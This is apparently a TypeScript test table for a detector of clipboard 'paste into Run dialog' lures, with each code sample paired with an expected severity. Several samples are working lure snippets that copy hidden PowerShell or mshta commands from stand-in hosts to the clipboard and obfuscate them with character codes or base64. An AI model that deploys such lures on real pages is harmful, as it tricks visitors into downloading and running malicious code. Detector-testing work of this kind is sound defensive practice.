import { detectorTable, type DetectorCase } from './detector-table.ts';

const ID = 'clipboard-command-lure';

const STEPS = "box.innerHTML = '<ol><li>Press <b>Win</b> + <b>R</b></li><li>Press <b>Ctrl</b> + <b>V</b></li><li>Press Enter</li></ol>';";

// [what the case shows, code, expected severity (null: no finding)]
const table: DetectorCase[] = [
  ['a hidden PowerShell download-and-run put on the clipboard from a fake checkbox, with Run-dialog steps',
    `var cmd = 'powershell -w hidden -c "iex (iwr https://verify.example/a.ps1)"';
     ${STEPS}
     tick.addEventListener('click', function () { navigator.clipboard.writeText(cmd + ' # I am not a robot - ID 4412'); });`,
    'high'],
  ['mshta through a hidden textarea and execCommand("copy"), the command given to a helper',
    `function put(text) { var t = document.createElement('textarea'); t.value = text; document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove(); }
     ${STEPS}
     btn.onclick = function () { put('mshta https://cdn.example/v.hta'); };`,
    'high'],
  ['a command assembled from character codes, with a comment tail hiding it in the Run box',
    `var c = String.fromCharCode(112,111,119,101,114,115,104,101,108,108) + ' -c "irm https://x.example/1|iex"';
     el.onchange = function () { navigator.clipboard.writeText(c + " # Verification ID 1"); };`,
    'high'],
  ['the command and the overlay both hidden in base64',
    `var b = { c: '${Buffer.from('powershell -W Hidden -C "iwr https://x.example/g | iex"').toString('base64')}',
              u: '${Buffer.from('<p>Press <b>Windows</b> + <b>R</b>, then <b>CTRL</b> + <b>V</b></p>').toString('base64')}' };
     function dec(s) { try { return decodeURIComponent(escape(window.atob(s))); } catch (e) { return window.atob(s); } }
     holder.innerHTML = dec(b.u);
     box.addEventListener('click', function () { navigator.clipboard.writeText(dec(b.c)); });`,
    'medium'],
  ['Run-dialog steps and a clipboard write whose text is not readable statically',
    `${STEPS} fetch('/cfg').then(function (r) { return r.json(); }).then(function (cfg) { btn.onclick = function () { navigator.clipboard.writeText(cfg.run); }; });`,
    'medium'],
  // benign look-alikes
  ['a code-snippet copy button writing the snippet it sits on',
    `document.querySelectorAll('pre button.copy').forEach(function (b) { b.addEventListener('click', function () { navigator.clipboard.writeText(b.parentNode.querySelector('code').textContent); }); });`,
    null],
  ['an install page copying its one-line installer (nothing hidden, no Run-dialog steps)',
    `var install = { win: 'powershell -c "irm https://tool.example/install.ps1 | iex"', unix: 'curl -fsSL https://tool.example/install | bash' };
     copyBtn.addEventListener('click', function () { navigator.clipboard.writeText(isWin ? install.win : install.unix); });`,
    'low'],
  ['a help page naming the Run dialog without touching the clipboard',
    `help.innerHTML = '<p>Press <b>Win</b> + <b>R</b>, type <code>appwiz.cpl</code> and press Enter. Or paste (Ctrl + V) the path.</p>';`,
    null],
  ['a docs page that mentions PowerShell and copies a non-command snippet',
    `var note = 'Run powershell as administrator first'; btn.onclick = function () { navigator.clipboard.writeText('npm install skimguard'); };`,
    null],
  ['drag-and-drop setData is not the clipboard',
    `var cmd = 'powershell -w hidden -c "iwr https://x.example/a.ps1"'; ${STEPS} el.addEventListener('dragstart', function (e) { e.dataTransfer.setData('text/plain', cmd); });`,
    null],
];

detectorTable(ID, table);
